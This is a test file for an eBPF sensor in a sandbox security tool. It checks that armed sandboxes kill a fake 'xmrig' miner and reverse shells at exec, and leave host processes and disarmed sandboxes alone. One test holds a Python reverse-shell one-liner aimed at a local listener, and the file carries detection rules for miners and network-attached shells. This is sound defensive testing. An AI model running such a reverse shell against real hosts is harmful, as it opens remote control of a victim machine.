// The kernel kill is scoped: the eBPF sensor SIGKILLs a kernel_kill name only in the sandboxes
// their owner armed (BPF maps written while bpftrace runs, so one resident sensor serves runs with
// different rules and modes). Another run's sandbox (another instance, or a detect-only run), a
// disarmed sandbox and host processes are left alone. Real cgroups in the unified hierarchy, a
// real bpftrace.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { after, test } from 'node:test';
import { EventBus, type PraetorEvent } from '../../src/events/index.ts';
import { startKernelSensor } from '../../src/sensors/index.ts';

const unified = '/sys/fs/cgroup/unified';
const root = existsSync(`${unified}/cgroup.procs`) ? unified : '/sys/fs/cgroup';
const dir = mkdtempSync('/tmp/pt-test-kkscope-');
const made: string[] = [];
after(async () => {
  for (const d of made.reverse()) {
    for (let i = 0; i < 50 && existsSync(d); i++) {
      try { if (existsSync(`${d}/cgroup.kill`)) writeFileSync(`${d}/cgroup.kill`, '1'); } catch { /* a group dir */ }
      try { rmdirSync(d); } catch { await new Promise((r) => setTimeout(r, 20)); }
    }
  }
  rmSync(dir, { recursive: true, force: true });
});

function sandboxCgroup(group: string): { dir: string; id: bigint; sandboxId: string } {
  const sandboxId = `sb-${randomBytes(6).toString('hex')}`;
  mkdirSync(`${root}/${group}`, { recursive: true });
  made.push(`${root}/${group}`);
  const d = `${root}/${group}/${sandboxId}`;
  mkdirSync(d);
  made.push(d);
  return { dir: d, id: statSync(d, { bigint: true }).ino, sandboxId };
}

/** Runs `script` in the cgroup; resolves 'stopped' if its shell is stopped (the kernel stops the
 * parent of a killed process as it reaps it), after killing it, else with the exit code. */
function runIn(cgdir: string, script: string): Promise<number | null | 'stopped'> {
  const c = spawn('/bin/sh', ['-c', `echo $$ > ${cgdir}/cgroup.procs && exec /bin/sh -c "$S"`], { env: { ...process.env, S: script }, stdio: 'ignore' });
  return new Promise((res) => {
    let done = false;
    c.once('exit', (code) => { done = true; res(code); });
    const poll = (n: number): void => {
      if (done) return;
      let st = '';
      try { const s = readFileSync(`/proc/${c.pid}/stat`, 'utf8'); st = s.slice(s.lastIndexOf(')') + 2, s.lastIndexOf(')') + 3); } catch { /* exited */ }
      if (st === 'T') { done = true; c.kill('SIGKILL'); res('stopped'); return; }
      if (n < 1000) setTimeout(() => poll(n + 1), 20); else c.kill('SIGKILL'); // 20 s: a loaded machine, not a hang
    };
    poll(0);
  });
}

test('kernel_kill names die at exec in armed sandboxes only, until disarmed', async () => {
  const mineGroup = `praetor-${randomBytes(4).toString('hex')}`;
  const otherGroup = `praetor-${randomBytes(4).toString('hex')}`;
  const mine = sandboxCgroup(mineGroup);
  const other = sandboxCgroup(otherGroup);
  const bin = `${dir}/bin`;
  mkdirSync(bin);
  // A known-bad name that writes its proof file first thing (shell script: the kill comes before
  // the interpreter runs a line).
  writeFileSync(`${bin}/xmrig`, '#!/bin/sh\necho ran > "$1"\nsleep 0.2\n');
  chmodSync(`${bin}/xmrig`, 0o755);
  const bus = new EventBus();
  const execs: Extract<PraetorEvent, { kind: 'process.exec' }>[] = [];
  bus.subscribe((e) => { if (e.kind === 'process.exec' && e.comm === 'xmrig') execs.push(e); });
  const byId = new Map([[mine.id, mine.sandboxId], [other.id, other.sandboxId]]);
  const sensor = await startKernelSensor({
    bus, mode: 'ebpf',
    resolver: { sandboxForCgroupId: (x) => byId.get(BigInt(x)), sandboxForPid: () => undefined },
    kernelKill: true,
  });
  try {
    await sensor.ready;
    assert.equal(sensor.armKernelKill(mine.id, [{ rule: 'Crypto miner binary executed', comms: ['xmrig'] }]), undefined, 'armed');
    assert.equal(await runIn(mine.dir, `${bin}/xmrig ${dir}/mine.out; echo next > ${dir}/mine.next`), 'stopped', 'the shell around the killed miner is stopped as it reaps it');
    assert.equal(await runIn(other.dir, `${bin}/xmrig ${dir}/other.out`), 0);
    await new Promise((res) => spawn(`${bin}/xmrig`, [`${dir}/host.out`], { stdio: 'ignore' }).once('exit', res));
    // Disarmed (its run ended, or switched to detect): the same name runs.
    assert.equal(sensor.armKernelKill(mine.id, []), undefined);
    assert.equal(await runIn(mine.dir, `${bin}/xmrig ${dir}/mine2.out`), 0);
    await new Promise((r) => setTimeout(r, 500));
  } finally {
    await sensor.stop();
  }
  assert.equal(existsSync(`${dir}/mine.out`), false, 'killed at exec in our own sandbox: it wrote nothing');
  assert.equal(existsSync(`${dir}/mine.next`), false, 'and the next line of its script never ran');
  assert.equal(readFileSync(`${dir}/other.out`, 'utf8'), 'ran\n', "another instance's sandbox is not ours to kill in the kernel");
  assert.equal(readFileSync(`${dir}/host.out`, 'utf8'), 'ran\n', 'a host process is never killed');
  assert.equal(readFileSync(`${dir}/mine2.out`, 'utf8'), 'ran\n', 'a disarmed sandbox is not killed');
  const m = execs.find((e) => e.sandboxId === mine.sandboxId);
  const o = execs.find((e) => e.sandboxId === other.sandboxId);
  assert.equal(m?.kernelKill?.rule, 'Crypto miner binary executed', JSON.stringify(execs));
  assert.ok(o && o.kernelKill === undefined, JSON.stringify(execs));
});

test('a sandbox not held for its owner: the shell around a kernel-killed miner is resumed and finishes', async () => {
  const { startGuard } = await import('../../src/runner/index.ts');
  const { SandboxManager } = await import('../../src/sandbox/index.ts');
  const stateDir = mkdtempSync('/tmp/pt-test-kkresume-');
  const bus = new EventBus();
  const got: PraetorEvent[] = [];
  bus.subscribe((e) => { if (e.kind === 'containment') got.push(e); });
  const guard = await startGuard({ bus, stateDir, detect: true, holdContained: false, log: () => {} });
  const m = await SandboxManager.open({ stateDir, bus });
  try {
    const sb = await m.create({});
    guard.watch(sb);
    const r = await sb.exec(['sh', '-c', 'cp /bin/true /tmp/xmrig; /tmp/xmrig; echo "rc=$?"; echo after'], { timeoutMs: 20_000 });
    assert.equal(r.timedOut, false, `the shell was not left stopped: ${JSON.stringify(r)}`);
    assert.match(r.stdout, /rc=137\nafter/, `the miner died of SIGKILL and the shell went on: ${JSON.stringify(r)} ${JSON.stringify(got)}`);
    assert.ok(got.some((e) => e.kind === 'containment' && e.by === 'kernel' && e.ok), JSON.stringify(got));
    assert.equal((await sb.exec(['true'])).code, 0, 'the sandbox is usable');
    await sb.destroy();
  } finally {
    await m.close();
    await guard.close();
    rmSync(stateDir, { recursive: true, force: true });
  }
});

test('a shell whose stdio is a connected inet socket dies at exec before it answers; a shell on a socketpair or a pipe runs', async () => {
  const { createServer } = await import('node:net');
  const got: Buffer[] = [];
  const conns: import('node:net').Socket[] = [];
  const server = createServer((c) => { conns.push(c); c.on('data', (d) => got.push(d)); c.on('error', () => {}); c.write('echo pwned-$((6*7))\n'); });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as { port: number }).port;
  const sb = sandboxCgroup(`praetor-${randomBytes(4).toString('hex')}`);
  const bus = new EventBus();
  const execs: Extract<PraetorEvent, { kind: 'process.exec' }>[] = [];
  bus.subscribe((e) => { if (e.kind === 'process.exec') execs.push(e); });
  const sensor = await startKernelSensor({ bus, mode: 'ebpf', resolver: { sandboxForCgroupId: (x) => (BigInt(x) === sb.id ? sb.sandboxId : undefined), sandboxForPid: () => undefined }, kernelKill: true });
  try {
    await sensor.ready;
    assert.equal(sensor.armKernelKill(sb.id, [{ rule: 'Shell or interpreter with network stdio', comms: ['sh', 'dash'], stdioNet: true }]), undefined);
    // The arena's reverse-shell-script: connect, point stdio at the socket, exec a shell.
    const rev = `import os, socket; s = socket.create_connection(("127.0.0.1", ${port})); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv("/bin/sh", ["sh"])`;
    await runIn(sb.dir, `python3 -c '${rev}'; echo done > ${dir}/rev.after`);
    // Look-alikes: a shell on a socketpair (a local supervisor), a shell in a pipeline.
    const pair = `import os, socket; a, b = socket.socketpair(); [os.dup2(a.fileno(), f) for f in (0, 1)]; b.sendall(b"echo pair > ${dir}/pair.out\\n"); b.shutdown(socket.SHUT_WR); os.execv("/bin/sh", ["sh"])`;
    assert.equal(await runIn(sb.dir, `python3 -c '${pair}'`), 0);
    assert.equal(await runIn(sb.dir, `echo 'echo pipe > ${dir}/pipe.out' | sh`), 0);
    await new Promise((r) => setTimeout(r, 500));
  } finally {
    await sensor.stop();
    for (const c of conns) c.destroy(); // a shell that survived reads EOF and ends
    await new Promise<void>((r) => server.close(() => r()));
  }
  assert.equal(Buffer.concat(got).length, 0, `the shell answered the listener: ${Buffer.concat(got).toString()}`);
  const sh = execs.find((e) => e.comm === 'sh' && e.kernelKill);
  assert.equal(sh?.kernelKill?.rule, 'Shell or interpreter with network stdio', JSON.stringify(execs.map((e) => [e.comm, e.stdio, e.kernelKill])));
  assert.deepEqual(sh.stdioPeers, [0, 1, 2].map(() => `127.0.0.1:${port}`), 'the kernel read the peer the dead process can no longer show');
  assert.equal(readFileSync(`${dir}/pair.out`, 'utf8'), 'pair\n', 'a socketpair is no network');
  assert.equal(readFileSync(`${dir}/pipe.out`, 'utf8'), 'pipe\n', 'a shell in a pipeline runs');
});
